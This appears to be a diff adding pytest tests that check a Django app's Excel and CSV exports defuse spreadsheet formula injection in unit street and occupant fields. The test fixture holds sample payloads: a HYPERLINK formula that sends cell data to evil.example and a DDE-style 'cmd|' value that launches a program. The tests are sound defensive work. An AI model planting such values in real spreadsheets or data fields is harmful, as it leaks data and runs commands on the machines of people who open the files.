@@ -84,3 +84,39 @@ def test_other_downloads_do_not_exist(client, public_register, path):
     kind, fmt = path.split(".")
     url = reverse("monitor:download", kwargs={**SLUGS, "kind": kind, "fmt": fmt})
     assert client.get(url).status_code == 404
+
+
+# --- Formulas in names and addresses stay text (issue 9, finding 4) -----------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Huurprijs")'
+HOSTILE = {"M1": ("=1+1", HYPERLINK), "M2": ("@SUM(1+1)", "-2+3+cmd|' /C calc'!E2"), "M4": ("\t=1+1", "+31 6 1234")}
+
+
+@pytest.fixture
+def hostile_register(public_register):
+    """Marktplein's units with streets and occupants that a spreadsheet would run as formulas."""
+    from kernkompas.monitor.models import Unit, UnitState
+
+    for own_id, (street, occupant) in HOSTILE.items():
+        Unit.objects.filter(external_id=own_id).update(street=street)
+        UnitState.objects.filter(unit__external_id=own_id).update(occupant=occupant)
+    return public_register
+
+
+def test_the_units_excel_file_shows_formulas_as_the_text_they_are(client, hostile_register):
+    book = load_workbook(io.BytesIO(_get(client, "panden", "xlsx").content))
+    sheet = book.active
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    header = [c.value for c in sheet[1]]
+    rows = {r[0]: dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)}
+    for own_id, (street, occupant) in HOSTILE.items():
+        assert rows[own_id]["street"] == street and rows[own_id]["occupant"] == occupant
+    assert isinstance(rows["M1"]["lat"], float) and rows["M1"]["floor_area_m2"] == 400  # numbers stay numbers
+
+
+def test_the_units_csv_puts_an_apostrophe_before_a_formula_and_quotes_every_text(client, hostile_register):
+    body = _get(client, "panden", "csv").content.decode("utf-8-sig")
+    rows = {r["own_id"]: r for r in csv.DictReader(io.StringIO(body))}
+    for own_id, (street, occupant) in HOSTILE.items():
+        assert rows[own_id]["street"] == "'" + street and rows[own_id]["occupant"] == "'" + occupant
+    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Huurprijs"")"' in body
